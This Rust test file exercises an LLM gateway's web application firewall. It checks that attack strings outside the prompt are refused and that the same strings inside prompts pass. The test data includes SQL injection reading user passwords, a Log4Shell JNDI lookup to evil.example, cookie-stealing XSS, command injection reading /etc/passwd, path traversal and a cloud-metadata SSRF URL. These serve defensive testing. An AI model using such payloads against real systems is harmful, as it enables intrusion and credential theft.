//! The firewall over what is no prompt.

use serde_json::{Value, json};

use super::guards;
use crate::{
    conversion::Speaks,
    harness::{Gateway, Http},
    upstream::{Kind, Reply, Upstream},
};

const SQL: &str = "' UNION SELECT username, password FROM users--";

fn section(mode: &str) -> Value {
    let mut section = guards(json!({}));
    section
        .as_object_mut()
        .expect("an object")
        .remove("profile");
    section["waf"] = json!({ "mode": mode });
    section
}

async fn gateway(kind: Kind, mode: &str) -> (Upstream, Gateway) {
    let upstream = Upstream::of(kind).then(Reply::text("ok")).start().await;
    super::warm(&section(mode)).await;
    let config = json!({ "providers": { "p": upstream.provider() }, "guards": section(mode) });
    let gateway = Gateway::start(config).await;
    (upstream, gateway)
}

const NATIVE: [(Speaks, Kind); 4] = [
    (Speaks::Chat, Kind::Openai),
    (Speaks::Responses, Kind::Openai),
    (Speaks::Messages, Kind::Anthropic),
    (Speaks::Generate, Kind::Gemini),
];

#[tokio::test]
async fn attacks_beside_prompts_are_refused_in_each_dialect() {
    for (speaks, kind) in NATIVE {
        let (upstream, gateway) = gateway(kind, "enforce").await;
        let path = speaks.path("p%2Fm", false);
        let good = speaks.request("p/m", false);
        let query = format!("{path}?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--");
        let mut attacks = vec![
            ("query", gateway.ask(&query, good.to_string())),
            (
                "header",
                gateway
                    .ask(&path, good.to_string())
                    .header("x-team", "${jndi:ldap://evil.example/a}"),
            ),
            (
                "cookie",
                gateway
                    .ask(&path, good.to_string())
                    .header("cookie", "id=<script>alert(1)</script>"),
            ),
        ];
        if speaks != Speaks::Generate {
            let mut metadata = good.clone();
            metadata["metadata"] = json!({ "user_id": SQL });
            attacks.push(("metadata", gateway.ask(&path, metadata.to_string())));
        }
        for (place, ask) in attacks {
            let answer = ask.whole().await;
            assert_eq!(
                answer.status,
                403,
                "{speaks:?} {place}: {}",
                answer.body_text()
            );
            let (message, _) = speaks.error(&answer.json());
            assert!(message.contains("firewall"), "{place}: {message}");
            let told = answer.header("x-sluicegate-firewall").expect("told");
            assert!(told.starts_with("score="), "{told}");
            let record = gateway.record(answer.id()).await;
            assert!(
                record["firewall"]["score"].as_u64() >= Some(5),
                "{place}: {record}"
            );
            assert!(
                !record["firewall"].to_string().contains("UNION"),
                "{record}"
            );
        }
        // A model's name that cannot be one is told as such.
        let mut model = good;
        model["model"] = format!("p/m{SQL}").into();
        let answer = gateway.ask(&path, model.to_string()).whole().await;
        assert!(
            [400, 403].contains(&answer.status),
            "{}",
            answer.body_text()
        );
        assert_eq!(upstream.hits(), 0, "{speaks:?}");
    }
}

#[tokio::test]
async fn the_same_words_in_a_prompt_pass() {
    for (speaks, kind) in NATIVE {
        let (upstream, gateway) = gateway(kind, "enforce").await;
        for attack in [
            SQL,
            "<script>alert(document.cookie)</script>",
            "; cat /etc/passwd",
            "../../../../etc/shadow",
            "http://169.254.169.254/latest/meta-data/",
        ] {
            let body = speaks.request("p/m", false).to_string();
            let body = body.replace(
                "\"Hi\"",
                &Value::from(format!("Explain this: {attack}")).to_string(),
            );
            let answer = gateway
                .ask(&speaks.path("p%2Fm", false), body)
                .whole()
                .await;
            assert_eq!(
                answer.status,
                200,
                "{speaks:?} {attack}: {}",
                answer.body_text()
            );
        }
        assert_eq!(upstream.hits(), 5);
    }
}

#[tokio::test]
async fn an_observing_firewall_lets_pass_and_tells() {
    let (upstream, gateway) = gateway(Kind::Openai, "observe").await;
    let ask = gateway.ask(
        "/v1/chat/completions?id=%27%20UNION%20SELECT%20a,b%20FROM%20users--",
        crate::harness::client::chat("p/m", "Hi"),
    );
    let answer = ask.whole().await;
    assert_eq!(
        (answer.status, upstream.hits()),
        (200, 1),
        "{}",
        answer.body_text()
    );
    assert!(answer.header("x-sluicegate-firewall").is_some());
    assert!(gateway.record(answer.id()).await["firewall"]["score"].as_u64() >= Some(5));
    assert!(
        gateway
            .metric(r#"sluicegate_guard_findings_total{direction="request",action="observe"}"#)
            .await
            >= 1.0
    );
}

#[tokio::test]
async fn ordinary_clients_of_every_version_of_http_are_none() {
    for (speaks, kind) in NATIVE {
        let (_upstream, gateway) = gateway(kind, "enforce").await;
        for http in Http::PLAIN {
            for stream in [false, true] {
                let path = speaks.path("p%2Fm", stream);
                let mut ask = gateway
                    .ask(&path, speaks.request("p/m", stream).to_string())
                    .over(http);
                for (name, value) in [
                    ("user-agent", "OpenAI/Python 2.8.1"),
                    ("accept", "application/json"),
                    ("accept-encoding", "gzip, deflate, br, zstd"),
                    ("x-stainless-lang", "python"),
                    ("x-stainless-package-version", "2.8.1"),
                    ("x-stainless-os", "Linux"),
                    ("x-stainless-runtime", "CPython"),
                    ("x-stainless-runtime-version", "3.13.1"),
                    ("x-stainless-async", "false"),
                    ("x-stainless-retry-count", "0"),
                    ("x-stainless-read-timeout", "600"),
                    ("anthropic-version", "2023-06-01"),
                    (
                        "anthropic-beta",
                        "interleaved-thinking-2025-05-14,fine-grained-tool-streaming-2025-05-14",
                    ),
                    (
                        "x-goog-api-client",
                        "google-genai-sdk/1.20.0 gl-python/3.13.1",
                    ),
                    ("connection", ""),
                ] {
                    ask = ask.header(name, value);
                }
                let answer = ask.whole().await;
                assert_eq!(
                    answer.status,
                    200,
                    "{speaks:?} {http:?}: {}",
                    answer.body_text()
                );
                assert_eq!(
                    answer.header("x-sluicegate-firewall"),
                    None,
                    "{speaks:?} {http:?}"
                );
            }
        }
    }
}
